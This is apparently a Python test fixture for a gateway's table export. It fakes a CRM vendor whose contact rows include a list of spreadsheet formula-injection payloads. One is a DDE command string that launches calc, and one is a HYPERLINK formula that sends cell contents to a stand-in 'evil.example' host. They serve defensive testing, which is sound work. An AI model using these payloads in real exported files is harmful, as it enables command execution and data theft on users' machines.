"""``crm``, a fake contacts vendor whose rows a spreadsheet would import, and the provider rows declaring it
(``/table/`` and the public demo: tests/test_table*.py, tests/test_public_demo*.py).

Its contacts hold what a hostile vendor (or a hostile contact) could put in a cell: every formula trigger
a spreadsheet honours, CSV's own quote, comma and line breaks, numbers as a vendor writes them
(``1.50``, ``1e3``, a 23-digit id, ``-5``), booleans, nulls and nested values.
"""

from __future__ import annotations

import contextlib
import json
from typing import Any, AsyncIterator

from treg.testing.gateway import Gateway, vendor_gateway
from treg.testing.upstreams import Exchange, RawUpstream, http_response

PLATFORM_KEY = "pk-crm-0123456789abcdef"
PLATFORM = {"TREG_PLATFORM_KEY_CRM": PLATFORM_KEY}
PRICE = 1000

#: strings a spreadsheet would run as a formula (or a command) if a cell began with them
HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "|calc", "%macro",
           "\uff1d1+1", " =1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"]

#: the rows' values the tests compare the table with (the answer's JSON text is built from this, by hand,
#: where a number must keep its spelling)
CONTACTS_JSON = (
    '{"data": {"items": ['
    '{"id": 1, "name": "Ada", "contact": {"email": "ada@example.com"}, "score": 1.50, "vip": true},'
    '{"id": 12345678901234567890123, "name": "hello, \\"world\\"\\nline2", "contact": {"email": null},'
    ' "score": 1e3, "vip": false, "tags": ["a", "b"]},'
    '{"id": -5, "name": "-5", "contact": {}, "extra": {"nested": [1, {"x": "=1"}]}}'
    + "".join(f', {{"id": {100 + i}, "name": {json.dumps(h)}, "contact": {{"email": {json.dumps(h)}}}}}'
              for i, h in enumerate(HOSTILE))
    + ']}, "next": null}'
)


def rows_json(n: int) -> str:
    """An answer of ``n`` rows (``{"id": i, "v": "row i"}``)."""
    return json.dumps({"data": {"items": [{"id": i, "v": f"row {i}"} for i in range(n)]}})


def crm_provider(base_url: str) -> dict[str, Any]:
    """``crm``: its key in ``Authorization``; table rows with and without columns, one without a table,
    an anonymous (free, keyless) one, a POST one."""
    def ep(eid: str, path: str, **over: Any) -> dict[str, Any]:
        row: dict[str, Any] = {"id": eid, "method": "GET", "path": path,
                               "params": [{"name": "q", "in": "query"}, {"name": "n", "in": "query"},
                                          {"name": "format", "in": "query"}],
                               "price": {"per_call_micro": PRICE}}
        row.update(over)
        return row

    return {
        "id": "crm", "base_url": base_url,
        "auth": [{"location": "header", "name": "Authorization", "format": "Bearer {secret}"}],
        "endpoints": [
            ep("crm.contacts", "/contacts", table={"rows": "data.items", "columns": [
                {"name": "id", "path": "id"}, {"name": "name", "path": "name"},
                {"name": "email", "path": "contact.email"}, {"name": "score", "path": "score"},
                {"name": "vip", "path": "vip"}, {"name": "extra", "path": "extra"}]}),
            ep("crm.contacts_all", "/contacts", table={"rows": "data.items"}),
            ep("crm.bulk", "/bulk", table={"rows": "data.items"}),
            ep("crm.people", "/contacts"),
            ep("crm.broken", "/broken", table={"rows": "data.items"}),
            ep("crm.status", "/status", table={"rows": ""}, price={"per_call_micro": 0}, platform_auth="anonymous"),
            ep("crm.create", "/contacts", method="POST", params=[], table={"rows": "data.items"}),
            ep("crm.dear", "/contacts", price={"per_call_micro": 400_000}, table={"rows": "data.items"}),
        ],
    }


class Vendor:
    """The responder of a ``RawUpstream`` playing ``crm``: ``/contacts`` (the hostile rows), ``/bulk?n=N``
    (N rows), ``/status`` (a top-level array), ``/broken`` (``status`` and ``body`` as set)."""

    def __init__(self) -> None:
        self.broken_status = 500
        self.broken_body = b'{"error": "boom"}'

    def __call__(self, ex: Exchange) -> bytes:
        path, _, query = ex.target.partition("?")
        json_type = [("Content-Type", "application/json")]
        if path.endswith("/contacts"):
            return http_response(200, CONTACTS_JSON.encode(), json_type)
        if path.endswith("/bulk"):
            n = int(dict(p.partition("=")[::2] for p in query.split("&")).get("n", "3"))
            return http_response(200, rows_json(n).encode(), json_type)
        if path.endswith("/status"):
            return http_response(200, b'[{"service": "api", "up": true}, {"service": "db", "up": false}]', json_type)
        if path.endswith("/broken"):
            return http_response(self.broken_status, self.broken_body, json_type, reason="Whatever")
        return http_response(404, b'{"error": "no such path"}', json_type, reason="Not Found")


def vendor_upstream() -> tuple[Vendor, RawUpstream]:
    """A ``Vendor`` and the (not yet started) upstream it answers on: ``async with up:``."""
    vendor = Vendor()
    return vendor, RawUpstream(vendor)


@contextlib.asynccontextmanager
async def crm_gateway(aiohttp_client: Any, make_app: Any, *, credits: int = 100_000,
                      **settings: Any) -> AsyncIterator[tuple[Gateway, Vendor, RawUpstream]]:
    """(gateway, vendor, upstream): ``crm`` on treg's platform key, its ``status`` keyless too; ``settings``:
    the app's (``table_max_rows=5``)."""
    vendor, up = vendor_upstream()
    async with up:
        async with vendor_gateway(aiohttp_client, make_app, [crm_provider(up.url + "/v1")], platform=PLATFORM,
                                  anonymous_providers=("crm",), credits=credits, **settings) as gw:
            yield gw, vendor, up


#: the plugin file a ``treg serve`` subprocess loads from TREG_PLUGINS_DIR: ``crm`` at ``URL``
PLUGIN_BODY = '''
from treg import hookimpl
from treg.testing.vendors.tables import crm_provider


@hookimpl
def treg_register_providers():
    return [crm_provider(URL)]
'''


def write_plugin(directory: Any, url: str) -> Any:
    """``crm`` at ``url`` as a plugin file in ``directory`` (a ``pathlib.Path``), for ``TREG_PLUGINS_DIR``."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "crm_fake.py"
    path.write_text(f"URL = {url!r}\n" + PLUGIN_BODY)
    return path
